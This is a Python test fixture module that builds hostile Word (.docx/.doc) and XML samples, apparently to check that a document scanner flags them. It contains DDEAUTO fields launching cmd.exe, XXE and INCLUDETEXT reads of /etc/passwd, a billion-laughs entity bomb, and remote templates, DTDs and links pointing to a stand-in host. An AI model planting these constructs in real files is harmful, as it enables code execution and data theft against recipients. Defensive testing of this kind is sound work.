"""Hostile Word files: macros, objects, links, fields, XML."""

from collections.abc import Callable

from tests.documents.hostile import Hostile
from tests.documents.making import (
    PACKAGE_OLE,
    docx_file,
    entries,
    field,
    old_word,
    with_body,
    with_parts,
    with_relation,
    with_type,
    zip_file,
)

MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
BILLION = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "lol">'
    + "".join(f'<!ENTITY b{n} "{f"&b{n - 1};" * 10}">' for n in range(1, 10)).replace("&b0;", "&b;")
    + "]><a>&b9;</a>"
)
XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
REMOTE_DTD = '<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://198.51.100.7/a.dtd"><a/>'


def _ole_object(prog_id: str, kind: str = "Embed") -> str:
    return (
        f'<w:p><w:r><w:object><o:OLEObject Type="{kind}" ProgID="{prog_id}" ShapeID="s"'
        ' DrawAspect="Content" ObjectID="_1" r:id="rX1"/></w:object></w:r></w:p>'
    )


def _embedded(name: str, content: bytes, prog_id: str) -> Callable[[], bytes]:
    def make() -> bytes:
        target = f"embeddings/{name}"
        base = with_relation("oleObject", target, external=False)
        return with_parts({f"word/{target}": content}, with_body(_ole_object(prog_id), base))

    return make


def _macro_docm() -> bytes:
    base = docx_file()
    types = entries(base)["[Content_Types].xml"].replace(WORD_TYPE.encode(), MACRO_TYPE.encode())
    return with_parts({"[Content_Types].xml": types, "word/vbaProject.bin": b"\xd0\xcf"}, base)


def workbook_named_word() -> bytes:
    base = docx_file()
    sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    types = entries(base)["[Content_Types].xml"].replace(WORD_TYPE.encode(), sheet.encode())
    return with_parts({"[Content_Types].xml": types}, base)


WORD: dict[str, Hostile] = {
    "macro file renamed": Hostile("bai.docx", _macro_docm, "file.macro"),
    "macro part hidden": Hostile(
        "bai.docx", lambda: with_parts({"word/VBAProject.BIN": b"x"}), "file.macro"
    ),
    "macro relation": Hostile(
        "bai.docx", lambda: with_relation("vbaProject", "a.bin", external=False), "file.macro"
    ),
    "macro type for images": Hostile(
        "bai.docx",
        lambda: with_type("word/media/a.png", "application/vnd.ms-office.vbaProject"),
        "file.macro",
    ),
    "dde field": Hostile(
        "bai.docx", lambda: with_body(field("DDEAUTO c:\\\\cmd.exe /k")), "file.dde"
    ),
    "dde in a simple field": Hostile(
        "bai.docx",
        lambda: with_body('<w:p><w:fldSimple w:instr=" dde cmd x"><w:r/></w:fldSimple></w:p>'),
        "file.dde",
    ),
    "dde spelt by numbers": Hostile(
        "bai.docx", lambda: with_body(field("QUOTE 68 68 69 65 85 84 79")), "file.dde"
    ),
    "includetext field": Hostile(
        "bai.docx",
        lambda: with_body(field("INCLUDETEXT file:///etc/passwd")),
        "file.fetching_field",
    ),
    "embedded program": Hostile(
        "bai.docx", _embedded("oleObject1.bin", PACKAGE_OLE, "Package"), "file.embedded_object"
    ),
    "program called equation": Hostile(
        "bai.docx", _embedded("oleObject1.bin", PACKAGE_OLE, "Equation.3"), "file.embedded_object"
    ),
    "embedded workbook": Hostile(
        "bai.docx",
        _embedded("a.xlsx", zip_file({"a": b""}), "Excel.Sheet.12"),
        "file.embedded_object",
    ),
    "program among pictures": Hostile(
        "bai.docx",
        lambda: with_parts({"word/media/image1.png": b"MZ" + b"\0" * 99}),
        "file.embedded_object",
    ),
    "linked object": Hostile(
        "bai.docx",
        lambda: with_relation("oleObject", "http://198.51.100.7/a"),
        "file.linked_object",
    ),
    "activex control": Hostile(
        "bai.docx", lambda: with_parts({"word/activeX/activeX1.xml": b"<a/>"}), "file.active_x"
    ),
    "remote template": Hostile(
        "bai.docx",
        lambda: with_relation("attachedTemplate", "http://198.51.100.7/a.dotm", part="settings"),
        "file.remote_template",
    ),
    "template on a share": Hostile(
        "bai.docx",
        lambda: with_relation("attachedTemplate", "file://198.51.100.7/a.dotm", part="settings"),
        "file.remote_template",
    ),
    "picture on a share": Hostile(
        "bai.docx", lambda: with_relation("image", r"\\198.51.100.7\a.png"), "file.linked_object"
    ),
    "remote frame": Hostile(
        "bai.docx", lambda: with_relation("frame", "http://198.51.100.7/"), "file.linked_object"
    ),
    "remote subdocument": Hostile(
        "bai.docx",
        lambda: with_relation("subDocument", "http://198.51.100.7/"),
        "file.linked_object",
    ),
    "whole file inside": Hostile(
        "bai.docx", lambda: with_relation("aFChunk", "a.html", external=False), "file.foreign_part"
    ),
    "script link": Hostile(
        "bai.docx", lambda: with_relation("hyperlink", "javascript:alert(1)"), "file.dangerous_link"
    ),
    "program link": Hostile(
        "bai.docx", lambda: with_relation("hyperlink", "file:///C:/a.hta"), "file.dangerous_link"
    ),
}

XML: dict[str, Hostile] = {
    "xxe": Hostile(
        "bai.docx", lambda: with_parts({"customXml/item1.xml": XXE.encode()}), "file.dtd"
    ),
    "xxe in utf-16": Hostile(
        "bai.docx", lambda: with_parts({"customXml/item1.xml": XXE.encode("utf-16")}), "file.dtd"
    ),
    "remote dtd": Hostile(
        "bai.docx", lambda: with_parts({"word/a.xml": REMOTE_DTD.encode()}), "file.dtd"
    ),
    "billion laughs": Hostile(
        "bai.docx", lambda: with_parts({"docProps/core.xml": BILLION.encode()}), "file.dtd"
    ),
    "xml that is not": Hostile(
        "bai.docx", lambda: with_parts({"word/document.xml": b"<a><b></a>"}), "file.damaged"
    ),
    "deep xml": Hostile(
        "bai.docx",
        lambda: with_parts({"word/a.xml": b"<a>" * 50_000 + b"</a>" * 50_000}),
        "file.damaged",
    ),
}

OLD_WORD: dict[str, Hostile] = {
    "old macros": Hostile(
        "bai.doc", lambda: old_word(more={("Macros", "VBA", "dir"): b"x"}), "file.macro"
    ),
    "old file locked": Hostile("bai.doc", lambda: old_word(flags=0x0100), "file.encrypted"),
    "old package": Hostile(
        "bai.doc",
        lambda: old_word(more={("ObjectPool", "_1", "\x01Ole10Native"): b"MZ"}),
        "file.embedded_object",
    ),
    "old dde": Hostile(
        "bai.doc",
        lambda: old_word().replace(
            b"\0" * 40, b"\x13 DDEAUTO c:\\cmd.exe \x15".ljust(40, b"\0"), 1
        ),
        "file.dde",
    ),
}
